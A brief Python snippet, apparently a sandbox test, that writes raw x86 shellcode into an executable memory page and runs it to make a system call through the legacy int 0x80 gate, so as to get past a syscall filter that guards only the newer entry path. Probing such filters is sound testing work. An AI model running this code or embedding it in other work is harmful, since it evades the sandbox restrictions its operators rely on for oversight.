# Machine code that makes a call by the old gate, past a filter of the new one.
import ctypes
import mmap

def f(x):
    code = mmap.mmap(-1, 4096, prot=mmap.PROT_READ | mmap.PROT_WRITE | mmap.PROT_EXEC)
    code.write(bytes.fromhex('b86601000031db31c931d2cd80c3'))
    socket = ctypes.CFUNCTYPE(ctypes.c_int)(ctypes.addressof(ctypes.c_char.from_buffer(code)))()
    return 2 if socket >= 0 else 3
